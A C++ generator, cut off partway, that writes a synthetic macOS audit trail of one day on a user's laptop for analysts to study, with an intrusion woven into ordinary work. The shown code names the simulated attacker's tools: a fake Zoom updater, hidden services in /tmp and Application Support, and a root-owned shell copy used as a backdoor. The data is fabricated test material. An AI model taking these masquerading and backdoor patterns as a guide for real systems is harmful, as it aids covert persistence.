// Writes the sample trail that the application ships: one day on orvik's MacBook, from the start of
// auditing after boot to the moment somebody stopped it, with an intrusion woven through ordinary
// work. Every time, pid and address is fixed and the background work comes from a seeded generator
// of our own, so the output is the same bytes on every run and every platform.
//
// It must read like a real machine's day to an analyst: pids are handed out in time order, a file
// keeps its mode and owner until something changes them, a copied binary keeps its code hash,
// clock changes move the timestamps that follow them, and times fall anywhere within their second.
// The day is therefore written twice: the first run learns when each process is created and where
// the clock steps, the second writes the records with that knowledge.
//
//   make-sample <output path>

#include "support/TrailBuilder.h"

#include <algorithm>
#include <arpa/inet.h>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <fstream>
#include <map>
#include <numeric>
#include <optional>
#include <string>
#include <vector>

namespace {

using namespace TestBSM;
using Millis = uint64_t;
using Args = std::vector<std::string>;

constexpr uint32_t unset = 0xFFFFFFFF;
constexpr uint32_t rootID = 0, wheel = 0, orvikID = 7501, staff = 20;
constexpr uint32_t mdnsID = 65, spotlightID = 89, updateID = 200, timedID = 266;
constexpr uint64_t midnight = 1741651200; // Tuesday 11 March 2025, UTC

constexpr Millis at(unsigned h, unsigned m, unsigned s = 0, unsigned ms = 0)
{
    return (midnight + h * 3600ull + m * 60ull + s) * 1000 + ms;
}
constexpr Millis seconds(unsigned s)
{
    return s * 1000ull;
}
constexpr Millis minutes(unsigned m)
{
    return m * 60000ull;
}

Bytes ip4(const char *text)
{
    Bytes b(4);
    if (inet_pton(AF_INET, text, b.data()) != 1) std::abort();
    return b;
}
Bytes ip6(const char *text)
{
    Bytes b(16);
    if (inet_pton(AF_INET6, text, b.data()) != 1) std::abort();
    return b;
}

// The standard distributions differ between libraries; this generator does not.
class Dice {
public:
    explicit Dice(uint64_t seed = 0x0da7e5ee0b5e55ull) : m_state(seed) {}
    uint32_t below(uint32_t n)
    {
        m_state = m_state * 6364136223846793005ull + 1442695040888963407ull;
        return uint32_t(m_state >> 33) % n;
    }
    uint32_t between(uint32_t lo, uint32_t hi) { return lo + below(hi - lo + 1); }
    template <typename T>
    const T &pick(const std::vector<T> &items)
    {
        return items[below(uint32_t(items.size()))];
    }

private:
    uint64_t m_state;
};

uint64_t hashOf(std::string_view text)
{
    uint64_t h = 0xcbf29ce484222325ull;
    for (unsigned char c : text) h = (h ^ c) * 0x100000001b3ull;
    return h;
}

struct Program {
    const char *path;
    uint32_t signer;       // 0 unsigned, 1 Apple platform binary, 2 developer
    const char *signingID; // copies of one binary share it, and so their code hash
    const char *teamID = "";
    uint32_t owner = rootID;
};

namespace Bin {
constexpr Program auditd{"/usr/sbin/auditd", 1, "com.apple.auditd"};
constexpr Program mDNSResponder{"/usr/sbin/mDNSResponder", 1, "com.apple.mDNSResponder"};
constexpr Program cfprefsd{"/usr/sbin/cfprefsd", 1, "com.apple.cfprefsd.xpc.daemon"};
constexpr Program syslogd{"/usr/sbin/syslogd", 1, "com.apple.syslogd"};
constexpr Program tccd{"/System/Library/PrivateFrameworks/TCC.framework/Support/tccd", 1, "com.apple.tccd"};
constexpr Program timed{"/usr/libexec/timed", 1, "com.apple.timed"};
constexpr Program softwareupdated{"/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
                                  1, "com.apple.softwareupdated"};
constexpr Program mdworker{
    "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/"
    "mdworker_shared",
    1, "com.apple.mdworker_shared"};
constexpr Program loginwindow{"/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow", 1,
                              "com.apple.loginwindow"};
constexpr Program finder{"/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", 1, "com.apple.finder"};
constexpr Program dock{"/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", 1, "com.apple.dock"};
constexpr Program safari{"/Applications/Safari.app/Contents/MacOS/Safari", 1, "com.apple.Safari"};
constexpr Program mail{"/System/Applications/Mail.app/Contents/MacOS/Mail", 1, "com.apple.mail"};
constexpr Program messenger{"/Applications/Signal.app/Contents/MacOS/Signal", 2, "org.whispersystems.signal-desktop",
                            "K8QW2D7F3N"};
constexpr Program editor{"/Applications/Sublime Text.app/Contents/MacOS/sublime_text", 2, "com.sublimetext.4",
                         "Z6RT4N9QJ2"};
constexpr Program terminal{"/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", 1,
                           "com.apple.Terminal"};
constexpr Program archiveUtility{
    "/System/Library/CoreServices/Applications/Archive Utility.app/Contents/MacOS/Archive Utility", 1,
    "com.apple.archiveutility"};
constexpr Program login{"/usr/bin/login", 1, "com.apple.login"};
constexpr Program sshd{"/usr/sbin/sshd", 1, "com.apple.sshd"};
constexpr Program zsh{"/bin/zsh", 1, "com.apple.zsh"};
constexpr Program sh{"/bin/sh", 1, "com.apple.sh"};
constexpr Program sudo{"/usr/bin/sudo", 1, "com.apple.sudo"};
constexpr Program git{"/usr/bin/git", 1, "com.apple.git"};
constexpr Program ssh{"/usr/bin/ssh", 1, "com.apple.openssh.ssh"};
constexpr Program make{"/usr/bin/make", 1, "com.apple.make"};
constexpr Program clang{"/usr/bin/clang", 1, "com.apple.clang"};
constexpr Program ls{"/bin/ls", 1, "com.apple.ls"};
constexpr Program cat{"/bin/cat", 1, "com.apple.cat"};
constexpr Program grep{"/usr/bin/grep", 1, "com.apple.grep"};
constexpr Program tail{"/usr/bin/tail", 1, "com.apple.tail"};
constexpr Program uptime{"/usr/bin/uptime", 1, "com.apple.uptime"};
constexpr Program vim{"/usr/bin/vim", 1, "com.apple.vim"};
constexpr Program python3{"/usr/bin/python3", 1, "com.apple.python3"};
constexpr Program softwareupdate{"/usr/sbin/softwareupdate", 1, "com.apple.softwareupdate"};
constexpr Program osascript{"/usr/bin/osascript", 1, "com.apple.osascript"};
constexpr Program curl{"/usr/bin/curl", 1, "com.apple.curl"};
constexpr Program base64{"/usr/bin/base64", 1, "com.apple.base64"};
constexpr Program xattr{"/usr/bin/xattr", 1, "com.apple.xattr"};
constexpr Program chmod{"/bin/chmod", 1, "com.apple.chmod"};
constexpr Program mkdir{"/bin/mkdir", 1, "com.apple.mkdir"};
constexpr Program cp{"/bin/cp", 1, "com.apple.cp"};
constexpr Program rm{"/bin/rm", 1, "com.apple.rm"};
constexpr Program whoami{"/usr/bin/whoami", 1, "com.apple.whoami"};
constexpr Program id{"/usr/bin/id", 1, "com.apple.id"};
constexpr Program uname{"/usr/bin/uname", 1, "com.apple.uname"};
constexpr Program swVers{"/usr/bin/sw_vers", 1, "com.apple.sw_vers"};
constexpr Program systemProfiler{"/usr/sbin/system_profiler", 1, "com.apple.system_profiler"};
constexpr Program csrutil{"/usr/bin/csrutil", 1, "com.apple.csrutil"};
constexpr Program security{"/usr/bin/security", 1, "com.apple.security"};
constexpr Program screencapture{"/usr/sbin/screencapture", 1, "com.apple.screencapture"};
constexpr Program launchctl{"/bin/launchctl", 1, "com.apple.xpc.launchctl"};
constexpr Program dscl{"/usr/bin/dscl", 1, "com.apple.dscl"};
constexpr Program dseditgroup{"/usr/sbin/dseditgroup", 1, "com.apple.dseditgroup"};
constexpr Program spctl{"/usr/sbin/spctl", 1, "com.apple.spctl"};
constexpr Program socketfilterfw{"/usr/libexec/ApplicationFirewall/socketfilterfw", 1, "com.apple.socketfilterfw"};
constexpr Program systemsetup{"/usr/sbin/systemsetup", 1, "com.apple.systemsetup"};
constexpr Program tccutil{"/usr/bin/tccutil", 1, "com.apple.tccutil"};
constexpr Program defaults{"/usr/bin/defaults", 1, "com.apple.defaults"};
constexpr Program crontab{"/usr/bin/crontab", 1, "com.apple.crontab"};
constexpr Program date{"/bin/date", 1, "com.apple.date"};
constexpr Program kmutil{"/usr/bin/kmutil", 1, "com.apple.kmutil"};
constexpr Program log{"/usr/bin/log", 1, "com.apple.log"};
constexpr Program audit{"/usr/sbin/audit", 1, "com.apple.audit"};
// The intruder's tools: unsigned, written by orvik's account, or a root-owned copy of the shell.
constexpr Program zoomUpdate{"/Users/orvik/Downloads/ZoomUpdate.app/Contents/MacOS/ZoomUpdate", 0, "ZoomUpdate", "",
                             orvikID};
constexpr Program zoomsvc{"/private/tmp/.zs/zoomsvc", 0, "zoomsvc", "", orvikID};
constexpr Program agent{"/Users/orvik/Library/Application Support/.zsvc", 0, "zoomsvc", "", orvikID};
constexpr Program kcd{"/private/tmp/.zs/kcd", 0, "kcd", "", orvikID};
constexpr Program backdoor{"/Users/Shared/.zsvc-sh", 1, "com.apple.zsh"};
} // namespace Bin

// One process as the audit subject sees it.
struct Process {
    uint32_t pid = 0;
    uint32_t auid = unset, euid = rootID, egid = wheel, ruid = rootID, rgid = wheel, sid = 0;
    Bytes address = Bytes(4, 0);
    bool remote = false; // written as subject_ex, which carries the remote terminal's address
    uint32_t port = 0;

    Process actingAs(uint32_t user, uint32_t group) const
    {
        Process p = *this;
        p.euid = p.ruid = user;
        p.egid = p.rgid = group;
        return p;
    }
};

struct Endpoint {
    Bytes address;
    uint16_t port = 0;
    std::string localPath; // a local socket when set
};
Endpoint inet(const char *address, uint16_t port)
{
    return {std::string_view(address).find(':') == std::string_view::npos ? ip4(address) : ip6(address), port, {}};
}
Endpoint local(const char *path)
{
    return {{}, 0, path};
}

// open(2) flavours and the flags argument each is recorded with.
enum Open : uint16_t { readOnly = 72, writeOnly = 76, writeCreate = 77, writeTruncate = 79, readWrite = 80 };
uint32_t openFlags(uint16_t event)
{
    switch (event) {
    case writeOnly: return 0x0009; // O_WRONLY|O_APPEND
    case writeCreate: return 0x0201;
    case writeTruncate: return 0x0601;
    case readWrite: return 0x0002;
    default: return 0x0000;
    }
}

constexpr uint32_t fsid = 16777220;
const Bytes hostAddress = ip4("192.168.1.23");

// What the first run of the day tells the second.
struct Plan {
    std::vector<uint32_t> pids;                         // in the order the processes were asked for
    std::vector<std::pair<Millis, int64_t>> clockSteps; // after each moment, times are written this much later
};

// Modes a file has before anything in the day changes them, where its place does not tell.
const std::map<std::string, uint32_t> &knownModes()
{
    static const std::map<std::string, uint32_t> modes = {
        {"/Users/orvik/.ssh/id_ed25519", 0100600},
        {"/Users/orvik/.zsh_history", 0100600},
        {"/Users/orvik/.viminfo", 0100600},
        {"/Users/orvik/Library/Keychains/login.keychain-db", 0100600},
        {"/Users/orvik/.zsh_sessions", 040700},
        {"/Users/orvik/Projects/tidewatch/build/tidewatch", 0100755},
        {"/Users/Shared/.zsvc-sh", 0100755}, // cp keeps the mode of /bin/zsh
        {"/private/etc/sudoers.d/_support", 0100440},
        {"/private/etc/security/audit_control", 0100400},
        {"/private/var/at/tabs/root", 0100600},
        {"/private/var/db/dslocal/nodes/Default/users/_support.plist", 0100600},
        {"/private/var/audit/20250310060112.20250311055809", 0100440},
    };
    return modes;
}

// `usual` is what the file's kind suggests (a folder, a program); 0 when only its place can tell.
uint32_t initialMode(const std::string &path, uint32_t usual)
{
    if (const auto known = knownModes().find(path); known != knownModes().end()) return known->second;
    if (usual) return usual;
    for (const char *place : {"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/libexec/"})
        if (path.starts_with(place)) return 0100755;
    if (path.find("/Contents/MacOS/") != std::string::npos || path.find("/Support/") != std::string::npos)
        return 0100755;
    return 0100644;
}

class Trail {
public:
    Process launchd() const { return Process{.pid = 1}; }
    Dice &dice() { return m_dice; }

    // The second run writes with what the first has learnt.
    void follow(Plan plan) { m_plan = std::move(plan); }

    // The pids in order of creation time: each process started in between, but not audited,
    // takes some of the numbers.
    Plan plan() const
    {
        Plan plan;
        std::vector<size_t> order(m_pidTimes.size());
        std::iota(order.begin(), order.end(), size_t(0));
        std::stable_sort(order.begin(), order.end(), [&](size_t a, size_t b) { return m_pidTimes[a] < m_pidTimes[b]; });
        plan.pids.resize(order.size());
        Dice gaps(0x51d5eedull);
        uint32_t pid = 300; // pids below belong to processes started before auditing
        for (size_t k : order) plan.pids[k] = pid += gaps.between(1, 9);
        plan.clockSteps = m_clockSteps;
        return plan;
    }

    uint32_t newPid(Millis t)
    {
        const size_t n = m_pidTimes.size();
        m_pidTimes.push_back(t);
        return m_plan ? m_plan->pids.at(n) : uint32_t(100000 + n);
    }

    // posix_spawn: the record names the new pid and is written as the spawner.
    Process spawn(const Process &spawner, Millis t, const Program &program, const Args &args, Process child)
    {
        child.pid = newPid(t);
        TrailRecordBuilder r = record(43190, t);
        r.arg(1, child.pid, "child PID")
            .token(Token::execArgs(args))
            .path(program.path)
            .token(attr(program.path, program.owner, 0100755));
        add(t, r.token(subjectOf(spawner)).token(identity(program)).returnValue(0, 0));
        return child;
    }
    Process fork(const Process &parent, Millis t)
    {
        Process child = parent;
        child.pid = newPid(t);
        add(t, record(2, t).arg(0, child.pid, "child PID").token(subjectOf(parent)).returnValue(0, child.pid));
        return child;
    }
    void exec(const Process &p, Millis t, const Program &program, const Args &args)
    {
        TrailRecordBuilder r = record(23, t);
        r.token(Token::execArgs(args)).path(program.path).token(attr(program.path, program.owner, 0100755));
        add(t, r.token(subjectOf(p)).token(identity(program)).returnValue(0, 0));
    }
    void exit(const Process &p, Millis t, uint32_t status = 0)
    {
        add(t, record(1, t).exit(status, 0).token(subjectOf(p)).returnValue(0, 0));
    }
    // fork and exec, as a shell runs a command; the caller ends the child.
    Process run(const Process &parent, Millis t, const Program &program, const Args &args)
    {
        const Process child = fork(parent, t);
        exec(child, t + 1 + m_dice.below(3), program, args);
        return child;
    }
    void runBriefly(const Process &parent, Millis t, const Program &program, const Args &args, Millis lasting = 30,
                    uint32_t status = 0)
    {
        exit(run(parent, t, program, args), t + lasting, status);
    }

    void open(const Process &p, Millis t, uint16_t event, const std::string &path, uint32_t owner = orvikID,
              uint8_t error = 0)
    {
        TrailRecordBuilder r = record(event, t);
        r.arg(2, openFlags(event), "flags").path(path);
        if (!error) r.token(attr(path, owner));
        add(t, r.token(subjectOf(p)).returnValue(error, error ? unset : 3 + m_dice.below(40)));
    }
    // A folder opened to list it, as ls, grep -r and the Finder do.
    void openFolder(const Process &p, Millis t, const std::string &path, uint32_t owner = orvikID)
    {
        TrailRecordBuilder r = record(readOnly, t);
        r.arg(2, 0x1100004, "flags").path(path).token(attr(path, owner, 040755)); // O_DIRECTORY|O_NONBLOCK|O_CLOEXEC
        add(t, r.token(subjectOf(p)).returnValue(0, 3 + m_dice.below(40)));
    }
    void unlink(const Process &p, Millis t, const std::string &path, uint32_t owner)
    {
        TrailRecordBuilder r = record(6, t);
        r.path(path).token(attr(path, owner));
        add(t, r.token(subjectOf(p)).returnValue(0, 0));
        m_files.erase(path);
    }
    void removeFolder(const Process &p, Millis t, const std::string &path, uint32_t owner)
    {
        TrailRecordBuilder r = record(48, t);
        r.path(path).token(attr(path, owner, 040755));
        add(t, r.token(subjectOf(p)).returnValue(0, 0));
        m_files.erase(path);
    }
    void makeFolder(const Process &p, Millis t, const std::string &path, uint32_t owner = orvikID)
    {
        add(t, record(47, t).arg(2, 0755, "mode").path(path).token(subjectOf(p)).returnValue(0, 0));
        m_files[path] = {040755, owner};
    }
    // The attributes recorded are those before the change; later records show the new mode.
    void changeMode(const Process &p, Millis t, const std::string &path, uint32_t mode, uint32_t owner)
    {
        TrailRecordBuilder r = record(10, t);
        r.arg(2, mode, "new file mode").path(path).token(attr(path, owner));
        add(t, r.token(subjectOf(p)).returnValue(0, 0));
        File &file = m_files.at(path);
        file.mode = (file.mode & 0170000) | mode;
    }
    void connect(const Process &p, Millis t, const Endpoint &to, uint8_t error = 0)
    {
        TrailRecordBuilder r = record(32, t);
        r.arg(1, 3 + m_dice.below(60), "fd");
        if (!to.localPath.empty()) r.token(Token::socketUnix(to.localPath));
        else if (to.address.size() == 16) r.token(Token::socketInet6(to.port, to.address));
        else r.token(socketInet(to));
        add(t, r.token(subjectOf(p)).returnValue(error, error ? unset : 0));
    }
    // A user-space record (login, authentication, sudo, directory change) with its message.
    void note(const Process &p, Millis t, uint16_t event, const std::string &text, uint8_t error = 0,
              bool withHost = false)
    {
        TrailRecordBuilder r = record(event, t);
        if (withHost) r.host(hostAddress);
        add(t, r.token(subjectOf(p)).text(text).returnValue(error, error ? unset : 0));
    }
    void taskForPid(const Process &p, Millis t, const Process &target)
    {
        TrailRecordBuilder r = record(43048, t);
        r.arg(1, target.pid, "target PID").token(Token::process(subjectFields(target)));
        add(t, r.token(subjectOf(p)).returnValue(0, 0));
    }
    void auditon(const Process &p, Millis t, uint16_t event, uint32_t command, uint8_t error = 0)
    {
        add(t, record(event, t).arg(1, command, "cmd").token(subjectOf(p)).returnValue(error, error ? unset : 0));
    }
    // settimeofday: the records after it carry the clock as set, `to` at this moment. The record
    // itself is stamped when the call began, with the old clock.
    void setClock(const Process &p, Millis t, Millis to)
    {
        add(t, record(37, t).token(subjectOf(p)).returnValue(0, 0));
        m_clockSteps.emplace_back(t, int64_t(to) - int64_t(warped(t)));
    }
    // settimeofday moving the clock on by `by` milliseconds.
    void stepClock(const Process &p, Millis t, int64_t by)
    {
        add(t, record(37, t).token(subjectOf(p)).returnValue(0, 0));
        m_clockSteps.emplace_back(t, (m_clockSteps.empty() ? 0 : m_clockSteps.back().second) + by);
    }

    size_t recordCount() const { return m_records.size(); }

    // The records in the order they were written, between the two file tokens that name the trail file.
    Bytes bytes()
    {
        std::stable_sort(m_records.begin(), m_records.end(),
                         [](const auto &a, const auto &b) { return a.time < b.time; });
        const Millis first = stamped(m_records.front().time), last = stamped(m_records.back().time);
        const std::string name = "/var/audit/" + stamp(first);
        Bytes out = Token::file(uint32_t(first / 1000), uint32_t(first % 1000), name + ".not_terminated");
        for (const auto &r : m_records) out.insert(out.end(), r.bytes.begin(), r.bytes.end());
        const Bytes end = Token::file(uint32_t(last / 1000), uint32_t(last % 1000), name + "." + stamp(last));
        out.insert(out.end(), end.begin(), end.end());
        return out;
    }

private:
    struct Entry {
        Millis time;
        Bytes bytes;
    };

    struct File {
        uint32_t mode;
        uint32_t owner;
    };

    TrailRecordBuilder record(uint16_t event, Millis t) const
    {
        const Millis stamp = stamped(t);
        return TrailRecordBuilder(event, uint32_t(stamp / 1000), uint32_t(stamp % 1000));
    }
    void add(Millis t, const TrailRecordBuilder &r) { m_records.push_back({t, r.build()}); }

    // The times written in this file are whole seconds or round offsets from them; a real system's
    // are not. A slow random drift of up to a second, rising or falling by under half a second per
    // second, moves every time into its second without changing the order of any two.
    static Millis warped(Millis t)
    {
        static const std::vector<int32_t> drift = [] {
            std::vector<int32_t> d(2 * 86400 + 2);
            Dice dice(0x7135eedull);
            int32_t w = 500;
            for (auto &value : d) {
                value = w;
                w += int32_t(dice.below(901)) - 450;
                if (w < 0) w = -w;
                if (w > 999) w = 1998 - w;
            }
            return d;
        }();
        const size_t second = size_t(t / 1000 - midnight);
        const int64_t into = int64_t(t % 1000), from = drift.at(second), to = drift.at(second + 1);
        return Millis(int64_t(t) + from + (to - from) * into / 1000);
    }
    Millis stamped(Millis t) const
    {
        int64_t offset = 0;
        if (m_plan)
            for (const auto &[at, by] : m_plan->clockSteps)
                if (t > at) offset = by;
        return Millis(int64_t(warped(t)) + offset);
    }

    // A file's attributes as they stand; the first mention of a file fixes its owner for the day.
    Bytes attr(const std::string &path, uint32_t owner, uint32_t usual = 0)
    {
        const auto [it, added] = m_files.try_emplace(path, File{initialMode(path, usual), owner});
        if (it->second.owner != owner) {
            std::fprintf(stderr, "make-sample: %s is owned by %u, not %u\n", path.c_str(), it->second.owner, owner);
            std::abort();
        }
        return Token::attr(it->second.mode, owner, owner == rootID ? wheel : staff, fsid, inode(path), 0);
    }

    static Subject subjectFields(const Process &p)
    {
        Subject s;
        s.auid = p.auid;
        s.euid = p.euid;
        s.egid = p.egid;
        s.ruid = p.ruid;
        s.rgid = p.rgid;
        s.pid = p.pid;
        s.sid = p.sid;
        s.port = p.port;
        if (p.address.size() == 4) std::copy(p.address.begin(), p.address.end(), s.address.begin());
        return s;
    }
    static Bytes subjectOf(const Process &p)
    {
        return p.remote ? Token::subjectEx(subjectFields(p), p.address) : Token::subject(subjectFields(p));
    }
    static Bytes socketInet(const Endpoint &to)
    {
        ByteWriter w;
        w.u8(0x80).u16(2).u16(to.port).bytes(to.address);
        return w.take();
    }
    static uint64_t inode(std::string_view path) { return 1000000 + hashOf(path) % 90000000; }
    static Bytes identity(const Program &program)
    {
        Bytes cdhash;
        uint64_t h = hashOf(std::string(program.signingID) + "/" + program.teamID);
        for (int i = 0; i < 20; ++i) {
            h ^= h >> 29;
            h *= 0xbf58476d1ce4e5b9ull;
            h ^= h >> 32;
            cdhash.push_back(uint8_t(h));
        }
        return Token::identity(program.signer, program.signingID, program.teamID, cdhash);
    }
    static std::string stamp(Millis t)
    {
        const time_t s = time_t(t / 1000);
        struct tm parts;
        gmtime_r(&s, &parts);
        char text[16];
        std::strftime(text, sizeof text, "%Y%m%d%H%M%S", &parts);
        return text;
    }

    std::vector<Entry> m_records; // times as the machine lived them, before drift and clock steps
    Dice m_dice;
    std::optional<Plan> m_plan;
    std::vector<Millis> m_pidTimes;
    std::vector<std::pair<Millis, int64_t>> m_clockSteps;
    std::map<std::string, File> m_files;
};

// ---- the cast -----------------------------------------------------------------------------------

// Daemons that were running before auditing started have no exec record in the trail.
const Process securityd{.pid = 121};
const Process opendirectoryd{.pid = 134};

Process daemonAs(uint32_t user)
{
    return Process{}.actingAs(user, user == rootID ? wheel : user);
}

struct Session {
    Process user;  // orvik in this session
    Process shell; // the interactive shell, once there is one
};

Process orvikIn(uint32_t sid, const Bytes &address = Bytes(4, 0), bool remote = false)
{
    Process p;
    p.auid = orvikID;
    p.sid = sid;
    p.address = address;
    p.remote = remote;
    return p.actingAs(orvikID, staff);
}

struct Machine {
    Trail trail;
    Process auditd, mdns, cfprefsd, syslogd, tccd, timed, softwareupdated, loginwindow;
    Process finder, dock, safari, mail, messenger, editor, terminal, cfprefsdUser;
    Process console; // orvik's login shell in Terminal
    Process attackerShell;
};

const std::string home = "/Users/orvik";
const std::string project = home + "/Projects/tidewatch";

// ---- background work ----------------------------------------------------------------------------

const std::vector<std::string> documents = {
    home + "/Documents/Q1 budget.numbers",
    home + "/Documents/tide tables 2025.pdf",
    home + "/Documents/notes/standup.md",
    home + "/Desktop/whiteboard.jpg",
    project + "/README.md",
    project + "/src/parse.c",
    project + "/src/station.c",
    home + "/Downloads/harbour-survey.pdf",
    home + "/Pictures/Photos Library.photoslibrary/database/Photos.sqlite",
};
const std::vector<const char *> webHosts = {
    "17.253.144.10",      "140.82.121.4",         "151.101.1.69",
    "104.16.132.229",     "2606:4700::6810:84e5", "2a00:1450:4001:82b::200e",
    "2a04:4e42:400::347",
};
const std::vector<const char *> sources = {"src/parse.c", "src/station.c", "src/tide.c", "src/net.c", "src/main.c"};

void daemonChatter(Machine &m, Millis from, Millis to, bool userLoggedIn)
{
    Trail &tr = m.trail;
    Dice &d = tr.dice();
    for (Millis t = from; t < to; t += seconds(d.between(70, 260))) {
        switch (d.below(userLoggedIn ? 7 : 4)) {
        case 0: tr.connect(m.mdns, t, inet(d.below(3) ? "192.168.1.1" : "fd42:7a3b:19::1", 53)); break;
        case 1: {
            Process worker = tr.spawn(tr.launchd(), t, Bin::mdworker,
                                      {Bin::mdworker.path, "-s", "mdworker", "-c", "MDSImporterWorker", "-m",
                                       "com.apple.mdworker.shared"},
                                      daemonAs(spotlightID));
            const unsigned files = d.between(2, 4);
            for (unsigned i = 0; i < files; ++i) tr.open(worker, t + 40 + i * 25, readOnly, d.pick(documents));
            tr.exit(worker, t + seconds(d.between(8, 30)));
            break;
        }
        case 2: tr.open(m.syslogd, t, writeOnly, "/private/var/log/system.log", rootID); break;
        case 3: tr.open(m.tccd, t, readOnly, "/Library/Application Support/com.apple.TCC/TCC.db", rootID); break;
        case 4:
            tr.open(m.cfprefsdUser, t, d.below(2) ? readOnly : writeTruncate,
                    home + "/Library/Preferences/"
                        + d.pick(std::vector<std::string>{"com.apple.dock.plist", "com.apple.finder.plist",
                                                          "com.apple.Safari.plist", "com.apple.Terminal.plist"}));
            break;
        case 5:
            tr.connect(m.safari, t, local("/var/run/mDNSResponder"));
            tr.connect(m.safari, t + 35, inet(d.pick(webHosts), 443));
            tr.open(m.safari, t + 180, writeCreate,
                    home + "/Library/Caches/com.apple.Safari/fsCachedData/" + std::to_string(4400 + d.below(5000)));
            break;
        default:
            tr.connect(m.messenger, t, inet(d.below(2) ? "34.237.73.95" : "2600:1f18:631e:2f80::5", 443),
                       d.below(12) ? 0 : 145);
            break;
        }
        if (t % minutes(60) < seconds(200)) tr.connect(m.timed, t + 500, inet("17.253.4.253", 123));
        if (t % minutes(150) < seconds(200)) tr.connect(m.softwareupdated, t + 900, inet("17.253.144.12", 443));
    }
}

// The headers each unit of the project includes, its own and the system's.
const std::string sdk = "/Library/Developer/CommandLineTools/SDKs/MacOSX.sdk/usr/include/";
const std::map<std::string, std::vector<std::string>> unitHeaders = {
    {"src/parse.c", {"include/tide.h", "include/parse.h", "stdio.h", "stdlib.h", "string.h", "ctype.h", "errno.h"}},
    {"src/station.c", {"include/tide.h", "include/station.h", "stdio.h", "stdlib.h", "math.h", "time.h"}},
    {"src/tide.c", {"include/tide.h", "include/station.h", "math.h", "time.h", "float.h"}},
    {"src/net.c",
     {"include/tide.h", "include/net.h", "stdio.h", "string.h", "errno.h", "unistd.h", "sys/types.h", "sys/socket.h",
      "netinet/in.h", "netdb.h"}},
    {"src/main.c",
     {"include/tide.h", "include/parse.h", "include/station.h", "include/net.h", "stdio.h", "stdlib.h", "getopt.h"}},
};
const std::string python =
    "/Library/Developer/CommandLineTools/Library/Frameworks/Python3.framework/Versions/3.9/lib/python3.9/";

std::string objectOf(const std::string &source)
{
    return "build/" + source.substr(4, source.size() - 6) + ".o";
}

// One compile: the unit, its headers (the project's include folder first, where the system's are
// looked up in vain), a temporary assembly file, then the object.
void compile(Trail &tr, const Process &make, Millis c, const std::string &source)
{
    Dice &d = tr.dice();
    const std::string object = objectOf(source);
    Process cc = tr.run(make, c, Bin::clang, {"clang", "-O2", "-Wall", "-Iinclude", "-c", source, "-o", object});
    Millis t = c + 18 + d.below(6);
    tr.open(cc, t, readOnly, project + "/" + source);
    for (const std::string &header : unitHeaders.at(source)) {
        t += 1 + d.below(3);
        if (header.starts_with("include/")) {
            tr.open(cc, t, readOnly, project + "/" + header);
        } else {
            tr.open(cc, t, readOnly, project + "/include/" + header, orvikID, 2);
            tr.open(cc, t + 1, readOnly, sdk + header, rootID);
        }
    }
    const std::string scratch = "/private/var/folders/7x/k2v9d0qn3zs1m4hd_5tq8w0r0000gn/T/"
                                + source.substr(4, source.size() - 6) + "-" + std::to_string(100000 + d.below(900000))
                                + ".s";
    const Millis done = t + 300 + d.below(500);
    tr.open(cc, done - 120, writeCreate, scratch);
    tr.open(cc, done, writeCreate, project + "/" + object);
    tr.unlink(cc, done + 8, scratch, orvikID);
    tr.exit(cc, done + 15);
}

// One stretch of developer work in the Terminal shell.
void devWork(Machine &m, Millis from, Millis to)
{
    Trail &tr = m.trail;
    Dice &d = tr.dice();
    const Process &shell = m.console;
    for (Millis t = from; t < to; t += seconds(d.between(90, 420))) {
        switch (d.below(8)) {
        case 0: {
            Process git = tr.run(shell, t, Bin::git, {"git", "status", "-sb"});
            Millis at = t + 9;
            for (const char *file : {".git/HEAD", ".git/config", ".git/refs/heads/main", ".git/index",
                                     ".git/info/exclude", ".gitignore", ".git/refs/remotes/origin/main"})
                tr.open(git, at += 1 + d.below(4), readOnly, project + "/" + file);
            tr.openFolder(git, at + 3, project + "/src");
            tr.openFolder(git, at + 5, project + "/include");
            tr.exit(git, at + 40 + d.below(40));
            break;
        }
        case 1: {
            Process git = tr.run(shell, t, Bin::git, {"git", "pull", "--rebase"});
            tr.open(git, t + 8, readOnly, project + "/.git/config");
            Process ssh = tr.run(git, t + 20, Bin::ssh,
                                 {"ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com",
                                  "git-upload-pack 'orvik/tidewatch.git'"});
            tr.open(ssh, t + 30, readOnly, home + "/.ssh/config");
            tr.open(ssh, t + 31, readOnly, home + "/.ssh/known_hosts");
            tr.connect(ssh, t + 60, inet("140.82.121.4", 22));
            tr.open(ssh, t + 300, readOnly, home + "/.ssh/id_ed25519");
            tr.exit(ssh, t + 1800);
            tr.open(git, t + 1850, writeCreate, project + "/.git/FETCH_HEAD");
            tr.open(git, t + 1870, writeTruncate, project + "/.git/refs/remotes/origin/main");
            tr.open(git, t + 1900, writeTruncate, project + "/.git/ORIG_HEAD");
            tr.exit(git, t + 2100);
            break;
        }
        case 2: {
            Process make = tr.run(shell, t, Bin::make, {"make", "-j4"});
            tr.open(make, t + 8, readOnly, project + "/Makefile");
            const unsigned units = d.between(1, 3);
            std::vector<std::string> built;
            for (unsigned i = 0; i < units; ++i) {
                const std::string source = sources[d.below(uint32_t(sources.size()))];
                if (std::find(built.begin(), built.end(), source) != built.end()) continue;
                built.push_back(source);
                compile(tr, make, t + 40 + i * 23, source); // make -j4 runs them side by side
            }
            const Millis link = t + 1500 + d.below(400);
            Args command = {"clang", "-o", "build/tidewatch"};
            for (const char *source : sources) command.push_back(objectOf(source));
            command.push_back("-lm");
            Process ld = tr.run(make, link, Bin::clang, command);
            Millis at = link + 20;
            for (const char *source : sources)
                tr.open(ld, at += 2 + d.below(3), readOnly, project + "/" + objectOf(source));
            tr.open(ld, at + 180, writeCreate, project + "/build/tidewatch");
            tr.exit(ld, at + 240);
            tr.exit(make, at + 260);
            break;
        }
        case 3: {
            const std::string name = sources[d.below(uint32_t(sources.size()))];
            const std::string source = project + "/" + name, swap = project + "/src/." + name.substr(4) + ".swp";
            Process vim = tr.run(shell, t, Bin::vim, {"vim", name});
            tr.open(vim, t + 30, readOnly, "/usr/share/vim/vimrc", rootID);
